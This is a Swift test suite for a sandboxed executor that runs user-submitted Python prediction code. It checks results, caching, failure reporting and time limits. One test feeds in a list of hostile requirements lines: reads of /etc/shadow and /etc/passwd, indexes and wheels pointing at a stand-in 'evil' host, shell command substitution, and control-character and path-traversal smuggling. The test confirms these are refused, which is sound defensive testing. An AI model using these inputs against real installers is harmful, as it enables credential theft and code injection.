import Contracts
import Cryptography
import JobWorker
import ServiceRuntime
import TestSupport
import Testing

@testable import executor

/// A job from its claim to its result, with everything but the other services being real.
@Suite(.serialized) struct SignalRunHandlerTests {
    private static let app = """
        from auspex import signal, Prediction
        @signal
        def predict(context):
            print("as of", context.as_of_microseconds)
            return Prediction(1 if context.bars().close[-1] > context.bars().close[0] else -1)
        """

    private func withExecutor(_ body: (FakePlatform) async throws -> Void) async throws {
        let fixture = try await SandboxFixture.shared.get()
        let platform = try await FakePlatform()
        let root = SandboxFixture.temporaryFolder
        let codeCache = DiskCache(root: root + "/code", capacityBytes: 1 << 30, cpu: fixture.cpu)
        let environments = EnvironmentStore(
            root: root + "/environments",
            capacityBytes: 1 << 30,
            uv: nil,
            index: PackageIndex(environment: [:]) { _ in nil },
            sandbox: fixture.sandbox,
            cpu: fixture.cpu
        )
        try codeCache.prepare()
        try environments.prepare()
        let handler = SignalRunHandler(
            inputs: RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: SystemTimeSource()),
            code: CodeTree(cache: codeCache, cpu: fixture.cpu),
            environments: environments,
            pythons: try await PythonInterpreter.discover(in: fixture.sandbox),
            sandbox: fixture.sandbox,
            runtime: fixture.runtime,
            cpu: fixture.cpu,
            resources: ResourceManager(plan: try CapacityPlan(settings: CapacitySettings(), machine: .plenty, gpus: 0))
        )
        let worker = JobWorker(
            worker: "executor-test",
            scheduler: platform.client("scheduler"),
            classes: [.signal: 2],
            handlers: [handler, NoopHandler()],
            wakeups: platform,
            control: fixture.loops.control,
            loops: fixture.loops.serving,
            grace: .milliseconds(100)
        )
        do {
            try await worker.start()
            try await body(platform)
        } catch {
            await worker.stop()
            throw error
        }
        await worker.stop()
        await platform.stop()
        FileTree.remove(root)
    }

    private func finished(_ platform: FakePlatform, _ attempt: AttemptID) async throws -> FinishedJob {
        try await eventuallyValue(timeout: .seconds(120)) { platform.read { $0.finished.first { $0.attemptID == attempt } } }
    }

    @Test func aRunGivesTheWholeResult() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": Self.app])
            let finished = try await finished(platform, attempt)
            #expect(finished.outcome == .completed, "\(finished)")
            let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result))
            #expect(result.rows.map(\.value) == [.single(DecimalText(units: 1))])
            #expect(result.dataSHA256 == SHA256.digest(utf8: "revisions"))
            #expect(result.referencePrices == ["BTCUSD": Price(DecimalText(units: 64975, scale: 2))])
            #expect(result.asOf == SandboxFixture.asOf && result.python.hasPrefix("3."))
            #expect(Set(result.stagesMs.keys) == ["bars", "code", "environment", "sandbox", "import", "predict"])
            #expect(finished.log == "as of \(SandboxFixture.asOf.microseconds)\n" && !finished.logTruncated)
            #expect(finished.cpuSeconds > 0 && finished.memoryPeakBytes > 0)
            let query = try #require(platform.read { $0.barsQueries.first })
            #expect(
                query == [
                    "instrument": "BTCUSD", "interval": "15s", "countback": "200", "as_of": SandboxFixture.asOf.iso8601, "format": "binary",
                ]
            )
            #expect(platform.read { $0.jobTokens } == ["the-job-token"])
        }
    }

    @Test func thePriceOfAnInstrumentThatIsNoInputIsAskedFor() async throws {
        let app = "from auspex import Prediction\ndef predict(context):\n    return Prediction(1)\n"
        try await withExecutor { platform in
            for (symbol, price) in [("BTCUSD", DecimalText(units: 600)), ("ETHUSD", nil)] {
                let output = ManifestOutput(kind: .direction, instrument: symbol, horizonSeconds: 60)
                let attempt = try platform.enqueue(["app.py": app], output: output, inputs: [])
                let finished = try await finished(platform, attempt)
                let result = try WireJSON.decode(SignalRunResult.self, from: try #require(finished.result, "\(finished)"))
                #expect(result.referencePrices[symbol]?.value == price)
                #expect(result.rows.map(\.instrument) == [symbol])
            }
        }
    }

    @Test func codeIsFetchedOnceForManyRuns() async throws {
        try await withExecutor { platform in
            let attempts = try (0..<4).map { _ in try platform.enqueue(["app.py": Self.app, "data/table.csv": "1,2\n"]) }
            for attempt in attempts { #expect(try await finished(platform, attempt).outcome == .completed) }
            #expect(platform.read { $0.blobRequests } == 2)
        }
    }

    @Test func failuresCarryTheirKindAndWords() async throws {
        try await withExecutor { platform in
            let cases: [(files: [String: String], python: String, inputs: [ManifestInput], kind: FailureKind, words: String)] = [
                (["app.py": "raise ValueError('broken model')"], "3.11", [], .exception, "ValueError: broken model"),
                (["app.py": Self.app, "requirements.txt": "-r /etc/passwd"], "3.11", [], .policy, "requirements.txt line 1"),
                (["app.py": Self.app, "requirements.txt": "numpy"], "3.11", [], .infra, "AUSPEX_UV"),
                (["app.py": Self.app], "2.7", [], .policy, "asks for Python 2.7"),
                (
                    ["app.py": Self.app], "3.11", [ManifestInput(instrument: "NOPE", interval: "15s", lookback: 5)], .exception,
                    "bars of NOPE 15s"
                ),
            ]
            for item in cases {
                let attempt = try platform.enqueue(item.files, python: item.python, inputs: item.inputs)
                let finished = try await finished(platform, attempt)
                #expect(finished.outcome == .failed && finished.failureKind == item.kind, "\(finished)")
                #expect(finished.errorMessage?.contains(item.words) == true, "\(finished.errorMessage ?? "")")
            }
        }
    }

    /// What would reach beyond the index, the version's files or the line, were it handed to an installer as it is.
    private static let hostileRequirements = [
        "-r /etc/shadow", "-c http://evil/constraints.txt", "--index-url http://evil/simple", "--extra-index-url=http://evil", "--find-links /tmp",
        "--trusted-host evil", "-e .", "-e git+https://evil/x.git", "numpy @ https://evil/numpy.whl", "evil @ file:///etc/passwd", "./evil",
        "../evil.whl", "/tmp/evil.whl", "git+ssh://evil/x", "file:///etc/shadow", "numpy\\\n--index-url http://evil",
        "numpy --hash=sha256:0 --no-binary :all:",
        "$(touch /tmp/evil)", "`id`", "numpy; import os", "numpy\u{0}evil", "numpy\r--index-url http://evil", "\u{1b}[2Jnumpy", "numpy\u{2028}-r x",
        "n\u{0443}mpy @ x", "--", "-", "@/etc/passwd", "%2e%2e/evil", "${HOME}/evil", "~/evil",
    ]

    @Test func requirementsThatReachOutAreRefusedBeforeAnythingIsInstalled() async throws {
        try await withExecutor { platform in
            for line in Self.hostileRequirements {
                let attempt = try platform.enqueue(["app.py": Self.app, "requirements.txt": line + "\n"], inputs: [])
                let finished = try await finished(platform, attempt)
                #expect(finished.outcome == .failed && finished.failureKind == .policy, "\(line.debugDescription): \(finished)")
                let words = finished.errorMessage ?? ""
                #expect(words.contains("line") && !words.contains("root:"), "\(words)")
                #expect(!words.unicodeScalars.contains { HarmlessText.isDangerous($0) }, "\(words.debugDescription)")
            }
        }
    }

    @Test func aMissingFileIsOurFault() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": "# lost\n" + Self.app], storesFiles: false)
            let finished = try await finished(platform, attempt)
            #expect(finished.failureKind == .infra && finished.errorMessage?.contains("not in the store") == true, "\(finished)")
        }
    }

    @Test func aStoreThatIsBusyIsWaitedForAndCostsNoAttempt() async throws {
        let platform = try await FakePlatform()
        let time = ManualTimeSource()
        let inputs = RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: time)
        let bytes = Array("weights".utf8)
        platform.change { ($0.blobs[SHA256.digest(bytes)], $0.busyAnswers) = (bytes, 2) }
        let fetching = Task { try await inputs.file(SHA256.digest(bytes), jobToken: "the-job-token") }
        for _ in 0..<2 {
            #expect(try await time.fellAsleep.next() == .seconds(2))
            time.advance(by: .seconds(2))
        }
        #expect(try await fetching.value == bytes)
        #expect(platform.read { $0.blobRequests } == 3)
        await platform.stop()
    }

    @Test func barsThatMustWaitTheirTurnCostNoAttempt() async throws {
        let platform = try await FakePlatform()
        let time = ManualTimeSource()
        let inputs = RunInputs(signals: platform.client("signals"), marketdata: platform.client("marketdata"), time: time)
        platform.change { $0.busyAnswers = 1 }
        let input = ManifestInput(instrument: "BTCUSD", interval: "15s", lookback: 20)
        let manifest = Manifest(name: "test", python: "3.11", schedule: .interval(seconds: 60), inputs: [input], output: SandboxFixture.output)
        let fetching = Task { try await inputs.bars(manifest, asOf: SandboxFixture.asOf, jobToken: "the-job-token") }
        #expect(try await time.fellAsleep.next() == .seconds(2))
        time.advance(by: .seconds(2))
        #expect(try await fetching.value.series.count == 1)
        #expect(platform.read { $0.barsQueries.count } == 2)
        await platform.stop()
    }

    @Test func theTimeLimitOfTheJobHolds() async throws {
        try await withExecutor { platform in
            let attempt = try platform.enqueue(["app.py": "while True: pass"], timeLimitSeconds: 1)
            let finished = try await finished(platform, attempt)
            #expect(finished.failureKind == .timeLimit && finished.errorMessage == "the run took longer than 1 s")
        }
    }
}
